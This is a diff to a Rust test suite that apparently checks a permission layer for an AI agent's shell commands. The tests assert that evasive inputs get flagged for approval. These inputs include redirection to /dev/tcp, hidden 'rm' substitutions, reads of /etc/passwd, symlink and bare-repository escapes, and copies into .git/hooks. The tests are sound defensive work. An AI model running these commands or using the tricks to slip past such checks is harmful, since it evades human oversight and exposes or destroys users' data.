@@ -1,6 +1,6 @@
 //! Rules about commands, part by part.
 
-use super::bench::Bench;
+use super::bench::{Bench, link};
 
 #[test]
 fn exact_prefix_and_pattern() {
@@ -98,6 +98,10 @@ fn an_allowed_prefix_smuggles_nothing() {
         "git push > /dev/tcp/10.0.0.1/80",
         "echo ${x:=$(rm x)}",
         "echo \"${x/`rm x`/}\"",
+        "command time -o out.txt -f 'rm x' git push",
+        "\\time -o out.txt git push",
+        "for PATH in .; do git push; done",
+        "for IFS in x; do git push; done",
     ] {
         let found = bench.short(&format!("Bash {command}"));
         assert!(found.starts_with("ask"), "{command:?}: {found}");
@@ -216,8 +220,78 @@ fn what_only_seems_to_read_is_asked_about() {
         "cat ~/x",
         "ls; env",
         "printenv",
+        "git diff /etc/passwd a.txt",
+        "git diff ../outside/b.txt a.txt",
+        "date -f ../outside/b.txt",
+        "find -O3 ../outside",
+        "for i in 1 2 3; do cd ..; done; cat etc/passwd",
+        "for i in 1 2 3; do cd src; done; cat x",
+        "f() { cd src; }; f; f; cat x",
+        "echo $(date)",
+        "echo `date`",
+        "cat <(ls)",
     ] {
         let found = bench.short(&format!("Bash {command}"));
         assert!(found.starts_with("ask"), "{command:?}: {found}");
     }
+}
+
+#[test]
+fn a_pattern_does_not_lead_out_through_a_symlink() {
+    let bench = Bench::new();
+    link(&bench.outside, &bench.project.join("door"));
+    link(&bench.outside.join("b.txt"), &bench.project.join("peephole"));
+    for command in ["cat d??r/b.txt", "cat peep*", "grep -r x d*", "head < peep*"] {
+        assert_eq!(bench.short(&format!("Bash {command}")), "ask workingDir", "{command}");
+    }
+    bench.check(&[("Bash cat *.txt", "allow other"), ("Bash cat none*", "allow other")]);
+}
+
+/// The settings of a repository make git run programs, and a bare one is made of plain files.
+#[test]
+fn git_in_a_bare_repository_is_asked_about() {
+    let bench = Bench::new().mode("acceptEdits");
+    for name in ["HEAD", "objects", "refs"] {
+        std::fs::create_dir_all(bench.project.join("src/planted").join(name)).unwrap();
+    }
+    std::fs::create_dir(bench.project.join("src/planted/refs/heads")).unwrap();
+    bench.check(&[
+        ("Bash git status", "allow other"),
+        ("Bash git -C src status", "allow other"),
+        ("Bash git -C src/planted status", "ask"),
+        ("Bash git -C src/planted/refs/heads status", "ask"),
+        ("Bash cd src/planted && git log", "ask"),
+        ("Bash cd src/planted && timeout 5 git log", "ask"),
+        ("Bash cd src/planted && ls", "allow other"),
+    ]);
+    std::fs::create_dir(bench.project.join("src/planted/.git")).unwrap();
+    bench.check(&[("Bash git -C src/planted status", "allow other")]);
+}
+
+#[test]
+fn a_file_command_is_seen_through_a_shortened_option() {
+    let bench = Bench::new().mode("acceptEdits");
+    std::fs::create_dir(bench.project.join(".git")).unwrap();
+    bench.check(&[
+        ("Bash cp a.txt --target-directory src", "allow subcommandResults"),
+        ("Bash cp a.txt --target-dir .git/hooks", "ask safetyCheck"),
+        ("Bash cp a.txt --target-dir=.git/hooks", "ask safetyCheck"),
+        ("Bash mv a.txt --target .git/hooks", "ask safetyCheck"),
+    ]);
+}
+
+#[test]
+fn an_allowed_program_reads_within_the_working_directories() {
+    let bench = Bench::new().rules(&["allow Bash(cat *)", "allow Bash(git *)"]);
+    bench.check(&[
+        ("Bash cat a.txt", "allow subcommandResults"),
+        ("Bash cat ../outside/b.txt", "ask workingDir"),
+        ("Bash cat < ../outside/b.txt", "ask workingDir"),
+        ("Bash cat \"$x\"", "ask other"),
+        ("Bash git diff main a.txt", "allow subcommandResults"),
+        ("Bash git diff ../outside/b.txt a.txt", "ask workingDir"),
+        ("Bash git -C ../outside log", "ask workingDir"),
+    ]);
+    let bench = bench.rules(&["allow Read(/OUTSIDE/**)"]);
+    bench.check(&[("Bash cat ../outside/b.txt", "allow subcommandResults")]);
 }
